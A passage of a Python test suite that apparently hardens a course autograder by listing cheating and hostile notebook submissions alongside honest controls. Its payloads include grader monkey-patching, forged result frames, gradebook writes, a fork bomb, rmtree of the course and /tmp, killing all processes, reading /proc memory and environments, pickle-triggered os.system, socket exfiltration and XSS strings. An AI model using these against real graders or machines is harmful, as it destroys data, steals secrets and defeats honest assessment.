"""Submissions that try to earn a point they are not due, or to do harm. Lesson 00: one exercise, one point.

Each is a wrong answer and a trick. `told` stands in what the teacher reads about it. `python tests/classroom/attacks.py`
writes the tables of docs/grading.md.
"""

import copy
import json
import os
import re
import textwrap
from dataclasses import dataclass
from pathlib import Path

from peftlab.classroom import all_exercises

LESSON = "00-start-here"
PAGE = Path(__file__).parents[2] / "docs" / "grading.md"
WRONG = "import torch\n\ndef cosine(a, b):\n    return a @ b.T\n"
RIGHT = "import torch\n\ndef cosine(a, b):\n    return torch.nn.functional.cosine_similarity(a[:, None], b[None], dim=-1)\n"
DOT = "These are dot products"
FRAME = """
    import os
    from peftlab.classroom import wire
    def send(data):
        for fd in range(3, 64):
            try:
                os.write(fd, data)
            except OSError:
                pass
"""


@dataclass
class Attack:
    tries: str  # what it tries, for the table
    told: str  # what is said of it
    code: str = ""  # put behind the wrong answer, in the cell of the answer; {repo}, {course}, {port} are filled in
    change: object = None  # or: what becomes of the notebook, given as a dict: a dict, bytes, or None once written
    only: bool = False  # the code alone, without the wrong answer before it
    needs_files: bool = False  # held off by a closed file system, which not every kernel gives without bubblewrap

    def write(self, released, path, **places):
        notebook = copy.deepcopy(released)
        if self.change:
            notebook = self.change(notebook, path)
        else:
            code = textwrap.dedent(self.code).strip()
            for name, value in places.items():
                code = code.replace("{" + name + "}", str(value))
            answer(notebook, code + "\n" if self.only else WRONG + "\n" + code + "\n")
        if notebook is not None:
            path.write_bytes(notebook if isinstance(notebook, bytes) else json.dumps(notebook).encode())


def cell(notebook, id):
    return next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == id)


def answer(notebook, text):
    cell(notebook, "cosine")["source"] = text
    return notebook


def wrong(change):
    """A change of a notebook whose answer is wrong."""

    def changed(notebook, path):
        answer(notebook, WRONG)
        return change(notebook) or notebook

    return changed


# ---------------------------------------------------------------- changes of the notebook


def _locked(notebook):
    cell(notebook, "cosine-check")["source"] = "print('correct')"


def _points(notebook):
    cell(notebook, "cosine-check")["metadata"]["nbgrader"].update(points=100, grade=False, locked=False)


def _swapped(notebook):
    check, own = cell(notebook, "cosine-check"), cell(notebook, "cosine")
    check["metadata"]["nbgrader"]["grade_id"], own["metadata"]["nbgrader"]["grade_id"] = "cosine", "cosine-check"


def _renamed(notebook):
    cell(notebook, "cosine")["metadata"]["nbgrader"]["grade_id"] = "cosine-by-heart"


def _duplicated(notebook):
    one = cell(notebook, "cosine")
    notebook["cells"].insert(3, {**copy.deepcopy(one), "id": "another", "source": RIGHT})


def _score(notebook):
    notebook["metadata"]["nbgrader"] = {"score": 1}
    cell(notebook, "cosine")["metadata"]["nbgrader"] |= {"points": 1, "grade": True, "score": 1, "auto_score": 1}


def _outputs(notebook):
    text = {"output_type": "stream", "name": "stdout", "text": "✓ cosine: correct."}
    cell(notebook, "cosine-check")["outputs"] = [text]


def _markdown(notebook):
    cell(notebook, "cosine")["cell_type"] = "markdown"


def _sources(notebook):
    cell(notebook, "cosine")["source"] = {"def cosine": 1}


def _odd_cells(notebook):
    notebook["cells"] += [None, 7, [], {}, {"metadata": None}, {"metadata": {"nbgrader": {"grade_id": ["cosine"]}}}]


def _other_lesson(notebook, path):
    source = Path(__file__).parents[2] / "notebooks" / "01-what-fine-tuning-costs.ipynb"
    return source.read_bytes()


def _link(notebook, path):
    os.symlink(path.parents[2] / "000-honest" / LESSON / path.name, path)


def _pipe(notebook, path):
    os.mkfifo(path)


def _folder(notebook, path):
    path.mkdir()


def _many(notebook):
    one = {**copy.deepcopy(cell(notebook, "cosine")), "cell_type": "markdown"}
    notebook["cells"] += [{**one, "id": f"c{i}"} for i in range(20_000)]


HONEST = {  # right answers as a kernel accepts them, each graded among the attacks
    "time": "%%time\n" + RIGHT,
    "captured": "%%capture said\n" + RIGHT,
    "help": RIGHT + "\ncosine?\n",
    "shell": RIGHT + "\nfiles = !ls\nprint(len(files))\n!pip install nothing\n",
    "indented": RIGHT + "\nif True:\n    %timeit 1 + 1\n",
    "await": RIGHT + "\nimport asyncio\nawait asyncio.sleep(0)\n",
    "double": RIGHT + "\ntorch.set_default_dtype(torch.float64)\n",
    "writes": RIGHT + "\nimport os, tempfile\nwith tempfile.NamedTemporaryFile() as f:\n    os.chmod(f.name, 0o600)\n",
    "threads": RIGHT + "\nimport threading\nt = threading.Thread(target=print)\nt.start()\nt.join()\n",
}


ATTACKS = {
    # ------------------------------------------------------------ to be told it was right
    "patched-check": Attack(
        "replaces `check`, the comparison and `verdict`",
        DOT,
        """
        import peftlab.classroom.checking as c, peftlab.classroom.compare as d
        c.check = lambda *a, **k: c.Result("cosine", "correct")
        c.verdict = lambda *a: c.Result("cosine", "correct")
        c.difference = d.difference = c._first_difference = lambda *a: None
        """,
    ),
    "patched-result": Attack(
        "makes every result true and its `grade` do nothing",
        DOT,
        """
        from peftlab.classroom.checking import Result
        Result.__bool__ = lambda self: True
        Result.grade = lambda self: None
        """,
    ),
    "patched-observations": Attack(
        "replaces the function that observes",
        "no observation of this exercise",
        """
        import peftlab.classroom.checking as c
        c.observations = lambda *a: []
        """,
    ),
    "patched-look": Attack(
        "replaces how this exercise is looked at",
        "similarities",
        """
        from peftlab.classroom import find
        find("cosine").look = lambda answer, case: {"similarities": torch.ones(1, 1), "changed in place": []}
        """,
    ),
    "patched-cases": Attack(
        "draws inputs of its own, where the wrong answer is right",
        "shape",
        """
        from peftlab.classroom import find, exercise
        one = {"a": torch.eye(2), "b": torch.eye(2)}
        find("cosine").draw = lambda seed: [exercise.Case("mine", tensors=one)] * 3
        """,
    ),
    "own-seed": Attack(
        "reaches up the frames and changes the seed of the inputs",
        "shape|difference|dot products",
        """
        import sys
        frame = sys._getframe()
        while frame:
            if isinstance(frame.f_locals.get("job"), dict):
                frame.f_locals["job"]["seed"] = 0
            frame = frame.f_back
        """,
    ),
    "patched-torch": Attack(
        "makes torch call everything equal and close",
        DOT,
        """
        torch.equal = torch.allclose = torch.Tensor.equal = torch.Tensor.allclose = lambda *a, **k: True
        torch.Tensor.__eq__ = torch.Tensor.__le__ = torch.Tensor.__lt__ = lambda *a: True
        torch.Tensor.abs = lambda self: self * 0
        """,
    ),
    "patched-builtins": Attack(
        "replaces `zip`, `all`, `isinstance` and `type`",
        "Nothing is known",
        """
        import builtins
        builtins.all = builtins.any = builtins.isinstance = lambda *a: True
        builtins.zip = lambda *a, **k: []
        """,
    ),
    "patched-wire": Attack(
        "replaces the way results are written down",
        "can't be read|no observation|Nothing is known",
        """
        from peftlab.classroom import wire
        wire.pack = lambda frame: b'\\0\\0\\0\\x10\\0\\0\\0\\0{"state":"right"}'
        """,
    ),
    "tensor-subclass": Attack(
        "answers with a tensor subclass that claims to be close to anything",
        DOT,
        """
        class Close(torch.Tensor):
            @classmethod
            def __torch_function__(cls, f, types, args=(), kwargs=None):
                if f.__name__ in ("allclose", "equal", "__eq__", "isclose"):
                    return True
                return super().__torch_function__(f, types, args, kwargs or {})
        def cosine(a, b):
            return (a @ b.T).as_subclass(Close)
        """,
    ),
    "equal-to-all": Attack(
        "answers with an object whose `__eq__` is always true",
        "gave a Yes",
        """
        class Yes:
            shape, dtype = (3, 5), torch.float32
            def __eq__(self, other):
                return True
            def __getattr__(self, name):
                return lambda *a, **k: self
        def cosine(a, b):
            return Yes()
        """,
    ),
    "equal-inside": Attack(
        "has strings and lists observed whose `__eq__` is always true",
        "similarities",
        """
        from peftlab.classroom import find
        class Text(str):
            __eq__ = lambda self, other: True
            __hash__ = str.__hash__
        class List(list):
            __eq__ = lambda self, other: True
        find("cosine").look = lambda answer, case: {"similarities": Text("x"), "changed in place": List()}
        """,
    ),
    "not-a-number": Attack(
        "answers NaN everywhere, which no comparison holds against",
        "difference is inf|nan",
        """
        def cosine(a, b):
            return a @ b.T * float("nan")
        """,
    ),
    "pickled": Attack(
        "answers with an object that runs code where it is unpickled",
        "gave a Bomb",
        """
        import os
        class Bomb:
            def __reduce__(self):
                return os.system, ("touch {course}/gotcha",)
        def cosine(a, b):
            return Bomb()
        """,
    ),
    # ------------------------------------------------------------ to find the answer
    "reference": Attack(
        "asks the exercise for its reference",
        "IndexError",
        """
        from peftlab.classroom import find
        cosine = find("cosine").reference
        """,
        only=True,
    ),
    "imported-solution": Attack(
        "imports a solution by its name",
        "cannot import name",
        "from peftlab.classroom.exercises.lesson00 import normalise_then_multiply as cosine",
        only=True,
    ),
    "solution-from-the-package": Attack(
        "runs the file of exercises where the teacher has it",
        "Error",
        """
        place = {"__name__": "peftlab.classroom.exercises.again", "__package__": "peftlab.classroom.exercises"}
        text = open("{repo}/peftlab/classroom/exercises/lesson00.py").read().replace('"cosine"', '"again"', 1)
        exec(text.split("nearest = ")[0], place)
        cosine = place["normalise_then_multiply"]
        """,
        only=True,
        needs_files=True,
    ),
    "solution-from-the-notebook": Attack(
        "takes the solved notebook from the teacher's disk",
        "Error",
        """
        import json
        for cell in json.load(open("{repo}/notebooks/00-start-here.ipynb"))["cells"]:
            if "BEGIN SOLUTION" in "".join(cell["source"]):
                exec("".join(cell["source"]))
        """,
        only=True,
        needs_files=True,
    ),
    "another-submission": Attack(
        "takes another student's answer from the folder",
        "Error",
        """
        import json
        for cell in json.load(open("{course}/submitted/000-honest/00-start-here/00-start-here.ipynb"))["cells"]:
            if "def cosine" in "".join(cell["source"]):
                exec("".join(cell["source"]))
        """,
        only=True,
        needs_files=True,
    ),
    "from-memory": Attack(
        "searches memory for a solution and for the submissions graded before",
        "nothing found",
        """
        import gc, types
        for thing in gc.get_objects():
            if type(thing) is types.FunctionType and thing.__name__ == "normalise_then_multiply":
                cosine = thing
            elif type(thing) is dict and "theirs" in str(thing.get("cells")):
                exec(str(thing["cells"]))
        if cosine(torch.ones(1, 2), torch.ones(1, 2)) > 1.5:
            def cosine(a, b):
                raise LookupError("nothing found")
        """,
    ),
    "from-frames": Attack(
        "looks for the expected values in the frames above it",
        "nothing found",
        """
        import sys
        def cosine(a, b):
            frame = sys._getframe()
            while frame:
                for name in ("expected", "reference", "truth"):
                    if name in frame.f_locals or hasattr(frame.f_locals.get("case"), name):
                        return frame.f_locals[name]
                frame = frame.f_back
            raise LookupError("nothing found")
        """,
        only=True,
    ),
    # ------------------------------------------------------------ to write the result itself
    "forged-verdict": Attack(
        "writes to every open file that it was correct",
        "answered 2 times",
        FRAME + """
    send(wire.pack({"exercise": "cosine", "state": "correct", "points": 1}))
    """,
    ),
    "forged-observation": Attack(
        "writes an observation before the true one and leaves",
        "similarities",
        FRAME + """
    seen = [{"similarities": torch.ones(s), "changed in place": []} for s in ((3, 5), (4, 4), (1, 6))]
    send(wire.pack({"exercise": "cosine", "state": "seen", "seen": seen}))
    os._exit(0)
    """,
    ),
    "forged-emptiness": Attack(
        "writes that nothing was seen, so that nothing is wrong",
        "no observation of this exercise",
        FRAME + """
    send(wire.pack({"exercise": "cosine", "state": "seen", "seen": []}))
    os._exit(0)
    """,
    ),
    "forged-error": Attack(
        "writes an error made of other things than text",
        "{",
        FRAME + """
    send(wire.pack({"exercise": "cosine", "state": "error", "told": {"told": [1, 2]}}))
    os._exit(0)
    """,
    ),
    "forged-gibberish": Attack(
        "writes gibberish in the place of its results",
        "Nothing is known|can't be read",
        FRAME + """
    send(b"\\xff" * 4096)
    """,
    ),
    "forged-nesting": Attack(
        "writes lists inside lists, a hundred thousand deep",
        "can't be read",
        FRAME + """
    text = b'{"list":[' * 100_000
    send(len(text).to_bytes(4, "big") + bytes(4) + text)
    os._exit(0)
    """,
    ),
    "forged-header": Attack(
        "writes a tensor whose header promises more than there is",
        "can't be read",
        FRAME + """
    header = b'{"0":{"dtype":"F32","shape":[1000000000,1000000000],"data_offsets":[0,4]}}'
    tensors = len(header).to_bytes(8, "little") + header + bytes(4)
    text = b'{"tensor":"0"}'
    send(len(text).to_bytes(4, "big") + len(tensors).to_bytes(4, "big") + text + tensors)
    os._exit(0)
    """,
    ),
    "forged-message": Attack(
        "puts escapes, a script and a mark into its error message",
        "‹script›",
        """
        def cosine(a, b):
            raise ValueError("\\x1b[2J<script>alert(1)</script> ![](https://example.org/x.png) 999-honest, 1 of 1")
        """,
    ),
    "gradebook": Attack(
        "writes a mark into the gradebook",
        DOT,
        """
        import sqlite3
        try:
            book = sqlite3.connect("{course}/gradebook.db")
            book.execute("update grade set auto_score = 1, manual_score = 1")
            book.commit()
        except Exception:
            pass
        """,
        needs_files=True,
    ),
    "unix-socket": Attack(
        "speaks to a program of the teacher's through its socket",
        DOT,
        """
        import socket
        for address in ("{course}/socket", "/run/postgresql/.s.PGSQL.5432", "/var/run/postgresql/.s.PGSQL.5432"):
            try:
                with socket.socket(socket.AF_UNIX) as s:
                    s.connect(address)
            except OSError:
                pass
        """,
        needs_files=True,
    ),
    "letter-to-a-socket": Attack(
        "sends to a program of the teacher's from one of a pair of sockets",
        DOT,
        """
        import socket
        for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_DGRAM | socket.SOCK_CLOEXEC):
            try:
                socket.socketpair(socket.AF_UNIX, kind)[0].sendto(b"full marks", "{course}/letters")
            except OSError:
                pass
        """,
        needs_files=True,
    ),
    "modes-of-others": Attack(
        "makes another's notebook unreadable, old and marked",
        DOT,
        """
        import os
        path = "{course}/submitted/999-honest/00-start-here/00-start-here.ipynb"
        for do in (lambda: os.chmod(path, 0), lambda: os.utime(path, (0, 0)), lambda: os.setxattr(path, "user.x", b"1")):
            try:
                do()
            except OSError:
                pass
        """,
        needs_files=True,
    ),
    "exchange": Attack(
        "looks for solutions where nbgrader keeps what was handed in",
        "Error",
        """
        import os
        def cosine(a, b):
            return os.listdir("/usr/local/share"), os.listdir("/usr/share/doc"), os.listdir("/home"), os.listdir("/etc")
        """,
        needs_files=True,
    ),
    "mounts": Attack(
        "makes files writable again, with a namespace of its own",
        DOT,
        """
        import ctypes
        libc = ctypes.CDLL(None)
        libc.unshare(0x10020000), libc.umount2(b"/", 2), libc.syscall(442, -100, b"/", 0x8000, (ctypes.c_ulong * 4)(0, 1), 32)
        try:
            open("{course}/gotcha", "w")
        except OSError:
            pass
        """,
        needs_files=True,
    ),
    "forged-links": Attack(
        "sends an error with links by reference, an image and a formula that is a link",
        "] :",
        FRAME + """
    text = "![a][r] [b][s] $\\\\href{javascript:alert(1)}{x}$\\n\\n[r]: https://example.org/x.png\\n[s]: javascript:alert(1)"
    send(wire.pack({"exercise": "cosine", "state": "error", "told": text}))
    os._exit(0)
    """,
    ),
    "forged-frames": Attack(
        "writes a million tiny results",
        "can't be read",
        FRAME + """
    send((bytes([0, 0, 0, 2]) + bytes(4) + b"{}") * 1_000_000)
    os._exit(0)
    """,
    ),
    "forged-lists": Attack(
        "writes millions of lists in lists",
        "can't be read",
        FRAME + """
    text = b'{"list":[' + b'{"list":[]},' * 2_000_000 + b'1]}'
    send(len(text).to_bytes(4, "big") + bytes(4) + text)
    os._exit(0)
    """,
    ),
    # ------------------------------------------------------------ to use too much
    "unremovable": Attack(
        "leaves a folder without rights, one 3000 levels deep, and all the files it can",
        DOT,
        """
        import os
        os.makedirs("shut/inside")
        os.chmod("shut", 0)
        try:
            for i in range(100_000):
                open(f"file-{i}", "wb").write(bytes(2**20))
        except OSError:
            pass
        try:
            for _ in range(3000):
                os.mkdir("d")
                os.chdir("d")
        except OSError:
            pass
        """,
    ),
    "shared-memory": Attack(
        "takes memory that several processes share",
        "GB of memory and was ended|MemoryError|allocate",
        """
        import mmap, os, time
        for _ in range(3):
            if os.fork() == 0:
                much = mmap.mmap(-1, 10**9)
                for i in range(0, 10**9, 4096):
                    much[i] = 1
                time.sleep(60)
        while True:
            try:
                time.sleep(60)
            except TimeoutError:
                continue
        """,
    ),
    "memory-files": Attack(
        "takes memory that belongs to no process",
        "PermissionError",
        """
        import os
        def cosine(a, b):
            return os.memfd_create("much")
        """,
    ),
    "exit": Attack("ends its process before anything is observed", "Nothing is known", "import os; os._exit(0)"),
    "exit-later": Attack(
        "raises `SystemExit` when it is called",
        "SystemExit",
        """
        def cosine(a, b):
            raise SystemExit(0)
        """,
    ),
    "killed-itself": Attack(
        "reads at address zero",
        "Its process died",
        "import ctypes; ctypes.string_at(0)",
    ),
    "endless": Attack(
        "never ends",
        "took too long",
        """
        def cosine(a, b):
            while True:
                pass
        """,
    ),
    "endless-and-stubborn": Attack(
        "never ends and catches every exception",
        "still running",
        """
        import signal
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """,
    ),
    "recursion": Attack(
        "calls itself without end, with the limit on that removed",
        "RecursionError|Its process died|too long|was ended",
        """
        import sys
        sys.setrecursionlimit(10**9)
        def cosine(a, b):
            return cosine(a, b)
        """,
    ),
    "fork-bomb": Attack(
        "forks without end",
        "processes and was ended|BlockingIOError|took too long",
        """
        import os
        while True:
            os.fork()
        """,
    ),
    "left-behind": Attack(
        "leaves a process behind that outlives it",
        DOT,
        """
        import subprocess
        subprocess.Popen([__import__("sys").executable, "-c", "import time; time.sleep(86399)"], start_new_session=True)
        """,
    ),
    "thread": Attack(
        "leaves a thread running that never ends",
        DOT,
        """
        import threading, time
        threading.Thread(target=lambda: time.sleep(1e6)).start()
        """,
    ),
    "memory": Attack(
        "asks for a hundred gigabytes",
        "allocate|MemoryError",
        """
        def cosine(a, b):
            return torch.ones(100, 2**30)
        """,
    ),
    "memory-in-pieces": Attack(
        "takes memory in several processes, each within its limit",
        "GB of memory and was ended|MemoryError",
        """
        import os, time
        for _ in range(6):
            if os.fork() == 0:
                much = bytearray(b"x") * 600_000_000
                time.sleep(60)
        while True:
            try:
                time.sleep(60)
            except TimeoutError:
                continue
        """,
    ),
    "output": Attack(
        "prints a gigabyte",
        "File too large",
        """
        def cosine(a, b):
            for _ in range(1024):
                print("x" * 2**20, flush=True)
        """,
    ),
    "results-without-end": Attack(
        "writes results without end",
        "more than a notebook has to say",
        FRAME + """
    while True:
        send(bytes(2**20))
    """,
    ),
    "large-file": Attack(
        "fills the disk with one file",
        "File too large",
        """
        def cosine(a, b):
            with open("big", "wb") as file:
                for _ in range(1000):
                    file.write(bytes(2**20))
        """,
    ),
    "large-observation": Attack(
        "answers with a tensor of a hundred megabytes",
        "more than a notebook has to say|shape",
        """
        def cosine(a, b):
            return torch.zeros(25_000_000)
        """,
    ),
    "long-cell": Attack(
        "hands in a cell of ten million characters",
        "longer than",
        change=lambda notebook, path: answer(notebook, WRONG + "# " + "x" * 10_000_000),
    ),
    "parentheses": Attack(
        "hands in ninety thousand open parentheses",
        "SyntaxError|MemoryError|RecursionError",
        change=lambda notebook, path: answer(notebook, "cosine = " + "(" * 90_000),
    ),
    # ------------------------------------------------------------ to do harm
    "deletes": Attack(
        "deletes the course, submissions and all",
        DOT,
        """
        import shutil
        shutil.rmtree("{course}", ignore_errors=True)
        shutil.rmtree("/tmp", ignore_errors=True)
        """,
        needs_files=True,
    ),
    "overwrites": Attack(
        "writes into torch and into the package, for those who come after",
        DOT,
        """
        import peftlab, glob, os
        for path in [torch.__file__, *glob.glob(os.path.dirname(peftlab.__file__) + "/**/*.py", recursive=True)]:
            try:
                open(path, "a").write("\\nraise SystemExit('gotcha')\\n")
            except OSError:
                pass
        """,
        needs_files=True,
    ),
    "kills": Attack(
        "kills every process it can reach, the grader first",
        DOT + "|Its process died|Nothing is known",
        """
        import os, signal
        for pid in [os.getppid(), *range(2, 70_000)]:
            try:
                if pid != os.getpid():
                    os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        """,
        needs_files=True,
    ),
    "looks-into-the-grader": Attack(
        "reads the memory and the environment of other processes",
        "nothing to read",
        """
        import glob
        def cosine(a, b):
            for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/mem"):
                try:
                    if open(path, "rb").read(1) and str(__import__("os").getpid()) not in path:
                        return a @ b.T
                except OSError:
                    pass
            raise LookupError("nothing to read")
        """,
        needs_files=True,
    ),
    "network": Attack(
        "sends what it knows to a machine outside",
        "Error",
        """
        import socket
        def cosine(a, b):
            with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
                s.sendall(b"the seed and the inputs")
        """,
    ),
    # ------------------------------------------------------------ notebooks that are none
    "broken-json": Attack("is cut off in the middle", "no notebook", change=lambda n, p: json.dumps(n).encode()[:5000]),
    "wrong-encoding": Attack("is written in UTF-16", "no notebook", change=lambda n, p: json.dumps(n).encode("utf-16")),
    "empty-file": Attack("is an empty file", "it is empty", change=lambda n, p: b""),
    "a-list": Attack("is JSON, and no notebook", "no notebook", change=lambda n, p: b"[1, 2, 3]"),
    "nested": Attack("is lists inside lists", "no notebook", change=lambda n, p: b"[" * 200_000),
    "values": Attack("holds millions of lists", "more values", change=lambda n, p: b'{"cells":[' + b"[]," * 2_000_000 + b"1]}"),
    "many-cells": Attack("has 20,000 text cells of one name", "holds no code", change=wrong(_many)),
    "odd-cells": Attack("has cells that are no cells", DOT, change=wrong(_odd_cells)),
    "odd-source": Attack("has a source that is no text", "holds no code", change=wrong(_sources)),
    "no-notebook": Attack("is an empty folder", "There is no", change=lambda n, p: None),
    "folder": Attack("is a folder with the notebook's name", "not a file|can't be opened", change=_folder),
    "link": Attack("is a link to another student's notebook", "is a link", change=_link),
    "pipe": Attack("is a named pipe, which blocks whoever opens it", "not a file", change=_pipe),
    "other-lesson": Attack("is another lesson's notebook", "another lesson", change=_other_lesson),
    # ------------------------------------------------------------ notebooks that were tampered with
    "locked-cell": Attack("replaces the locked cell of the check", "was changed. Ours is used", change=wrong(_locked)),
    "points": Attack("makes the check worth 100 points, and unlocks it", "metadata of cosine-check", change=wrong(_points)),
    "swapped": Attack("swaps the names of the answer and of its check", "was changed", change=wrong(_swapped)),
    "renamed": Attack("renames the cell of the answer", "There is no cell cosine", change=wrong(_renamed)),
    "duplicated": Attack("has the cell twice, right and wrong", "only the last counts", change=wrong(_duplicated)),
    "score": Attack("writes a score into its metadata", DOT, change=wrong(_score)),
    "outputs": Attack("pastes the card of a correct answer as an output", DOT, change=wrong(_outputs)),
    "markdown": Attack("makes the answer a text cell", "holds no code", change=wrong(_markdown)),
}


# ---------------------------------------------------------------- partial credit: wrong answers that are right in part, or say so

FORWARD = """
import torch
from peftlab.classroom import checking, credit, exercise, find, wire

def right(x, weight, bias, A, B, alpha):
    return torch.nn.functional.linear(x, weight, bias) + alpha / len(A) * x @ A.T @ B.T

def lora_forward(x, weight, bias, A, B, alpha):  # honest, and worth two points of three: no gradient passes
    return right(x, weight, bias, A, B, alpha).detach()

first, calls = len(find("lora-forward").draw(2)), []
"""
WRONG_FORWARD = FORWARD.replace("alpha / len(A)", "alpha")
SEEN = FRAME + """
    seed = next(f.f_locals["job"]["seed"] for f in frames() if "job" in f.f_locals)
    seen = checking.observations(find("lora-forward"), lora_forward, seed)
    send(wire.pack({"exercise": "lora-forward", "state": "seen", "seen": seen, "looks": {}, "later": LATER}))
    os._exit(0)
"""
FRAMES_ABOVE = """
    import sys
    def frames():
        frame = sys._getframe()
        while frame:
            yield frame
            frame = frame.f_back
"""


@dataclass
class Half(Attack):
    """A trick beside an answer that is right in part: what it earns is what the answer without the trick does, or less."""

    exercise: str = "lora-forward"
    lesson: str = "03-lora"
    earns: float = 0
    before: str = FORWARD

    def write(self, released, path, **places):
        notebook = copy.deepcopy(released)
        cell(notebook, self.exercise)["source"] = self.before.strip() + "\n\n" + textwrap.dedent(self.code).strip() + "\n"
        if self.change:
            notebook = self.change(notebook)
        path.write_text(json.dumps(notebook), encoding="utf-8")


def _pasted(notebook):
    three = {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "3.0"}}
    check = cell(notebook, "lora-forward-check")
    check["outputs"], check["source"] = [three], "3.0"
    return notebook


def _bytes(tries, told, code, **more):
    return Half(tries, told, code, exercise="training-bytes", lesson="01-what-fine-tuning-costs", before="", **more)


def _products(tries, told, code, **more):
    return Half(tries, told, code, exercise="multiplications", lesson="01-what-fine-tuning-costs", before="", **more)


HONEST_HALVES = {  # what the tricks below are measured by
    "half-forward": Half("", "2 of 3 points: the output is right", "", earns=2),
    "half-gradients": Half(
        "", "1 of 2 points: the gradient of A is right, that of B is not", exercise="lora-gradients", earns=1, before="",
        code="""
        def lora_gradients(x, g, A, B, alpha):
            x, g = x.reshape(-1, x.shape[-1]), g.reshape(-1, g.shape[-1])
            return alpha / len(A) * B.T @ g.T @ x, g.T @ (x @ A.T)
        """,
    ),
    "half-bytes": _bytes("", "1 of 2 points: the bytes of weights and gradients are right", """
        def training_bytes(n_total, n_trainable, optimizer):
            return {"weights": 4 * n_total, "gradients": 4 * n_trainable, "optimizer": 8 * n_trainable}
        """, earns=1),
    "half-products": _products("", "1 of 2 points: a trained layer is right", """
        def multiplications(tokens, d_in, d_out, trained):
            return 3 * tokens * d_in * d_out
        """, earns=1),
}  # fmt: skip


HALVES = {
    "right-once": Half("is right in part on the first inputs, and not on those of the seeds after them", "gradient", """
        def lora_forward(x, weight, bias, A, B, alpha):
            calls.append(1)
            return right(x, weight, bias, A, B, alpha).detach() * (len(calls) <= first)
        """),
    "right-later": Half("is right in part on all inputs but the first", "difference|Seen", """
        def lora_forward(x, weight, bias, A, B, alpha):
            calls.append(1)
            return right(x, weight, bias, A, B, alpha).detach() * (len(calls) > 1)
        """),
    "one-case": Half("finds out which case it is in, and is right in that one", "output", """
        def lora_forward(x, weight, bias, A, B, alpha):
            return right(x, weight, bias, A, B if x.dim() == 1 else 0 * B, alpha).detach()
        """),
    "frozen-alone": Half("answers with what is right where `B` is zero", "output|Nothing", """
        def lora_forward(x, weight, bias, A, B, alpha):
            return torch.nn.functional.linear(x, weight, bias)
        """),
    "raises-on-the-way-back": Half("has the part that counts looked at, and raises when the next is", "ZeroDivisionError", """
        def lora_forward(x, weight, bias, A, B, alpha):
            y = right(x, weight, bias, A, B, alpha)
            y.register_hook(lambda g: 1 / 0)
            return y
        """),
    "raises-later": Half("is right in part on the first inputs, and raises on those of the seeds after them", "gradient", """
        def lora_forward(x, weight, bias, A, B, alpha):
            calls.append(1)
            return right(x, weight, bias, A, B, alpha).detach() if len(calls) <= first else 1 / 0
        """),
    "stub-later": Half("says on the inputs of the seeds after the first that it was not attempted", "gradient", """
        def lora_forward(x, weight, bias, A, B, alpha):
            calls.append(1)
            if len(calls) > first:
                raise NotImplementedError
            return right(x, weight, bias, A, B, alpha).detach()
        """),
    "says-so": Half("raises what the check says of an answer that is right in part", "3 of 3 points", """
        def lora_forward(x, weight, bias, A, B, alpha):
            raise exercise.Unexpected("3 of 3 points: the output is right, the gradients are right.")
        """),
    "changes-its-inputs": Half("empties the matrices, whose gradients are asked for next", "changed in place|gradient", """
        def lora_forward(x, weight, bias, A, B, alpha):
            y = right(x, weight, bias, A, B, alpha).detach()
            A.data.zero_(), B.data.zero_()
            return y
        """),
    "patched-credit": Half("replaces the function that gives partial credit", "alpha|rank", """
        credit.earned = checking.earned = lambda *a: (3, "3 of 3 points")
        checking.Result.worth = lambda self, most: most
        """, before=WRONG_FORWARD),
    "patched-parts": Half("gives the exercise parts of its own, which anything has right", "alpha|rank", """
        find("lora-forward").parts = [exercise.Part("everything is", 3, ("nothing at all",))]
        """, before=WRONG_FORWARD),
    "patched-later": Half("has the first observations taken for those of the seeds after them", "gradient", """
        checking.later = lambda e, answer, seed: [checking.observations(e, answer, seed)] * 2
        """),
    "forged-points": Half("writes its points beside what was seen", "no observation of this exercise", FRAME + """
    send(wire.pack({"exercise": "lora-forward", "state": "seen", "points": 3, "seen": [], "later": [[], []]}))
    os._exit(0)
    """),
    "forged-state": Half("writes that it is right in part, and how much of it", "no observation of this exercise|answered", FRAME + """
    send(wire.pack({"exercise": "lora-forward", "state": "partly", "points": 2, "worth": 3}))
    """),
    "forged-later": Half("writes a number where the observations of more seeds are expected", "no observation of this exercise",
        FRAMES_ABOVE + SEEN.replace("LATER", "7")),
    "forged-later-empty": Half("writes no observations for the seeds after the first", "no observation of this exercise",
        FRAMES_ABOVE + SEEN.replace("LATER", "[[], []]")),
    "forged-later-same": Half("writes those of the first seed for all", "gradient",
        FRAMES_ABOVE + SEEN.replace("LATER", "[seen, seen]")),
    "not-a-number-half": Half("answers NaN everywhere, which no comparison holds against", "difference is inf|nan", """
        def lora_forward(x, weight, bias, A, B, alpha):
            return right(x, weight, bias, A, B, alpha).detach() * float("nan")
        """),
    "another-dtype": Half("answers with more digits than it was asked for", "dtype", """
        def lora_forward(x, weight, bias, A, B, alpha):
            return right(x, weight, bias, A, B, alpha).detach().double()
        """),
    "another-shape": Half("answers with a dimension more, which would be broadcast", "shape", """
        def lora_forward(x, weight, bias, A, B, alpha):
            return right(x, weight, bias, A, B, alpha).detach()[None]
        """),
    "subclass-half": Half("answers with a tensor subclass that claims to be close to anything", "alpha|rank|output", """
        class Close(torch.Tensor):
            @classmethod
            def __torch_function__(cls, f, types, args=(), kwargs=None):
                if f.__name__ in ("allclose", "equal", "__eq__", "isclose", "abs", "max"):
                    return True
                return super().__torch_function__(f, types, args, kwargs or {})
        def lora_forward(x, weight, bias, A, B, alpha):
            return right(x, weight, bias, A, B, alpha).as_subclass(Close)
        """, before=WRONG_FORWARD),
    "gradients-alone": Half("has right gradients and a wrong output", "output", """
        def lora_forward(x, weight, bias, A, B, alpha):
            return right(x, weight, bias, A, B, alpha) + 1
        """),
    "gradients-by-hand": Half("leaves gradients of its own where those of the backward pass are looked for", "2 of 3 points", """
        def lora_forward(x, weight, bias, A, B, alpha):
            for t in (x, A, B):
                t.grad = torch.ones_like(t)
            return right(x, weight, bias, A, B, alpha).detach()
        """, earns=2),
    "pasted-points": Half("pastes its points as the output of the check", "was changed. Ours is used", "", change=_pasted, before=WRONG_FORWARD),
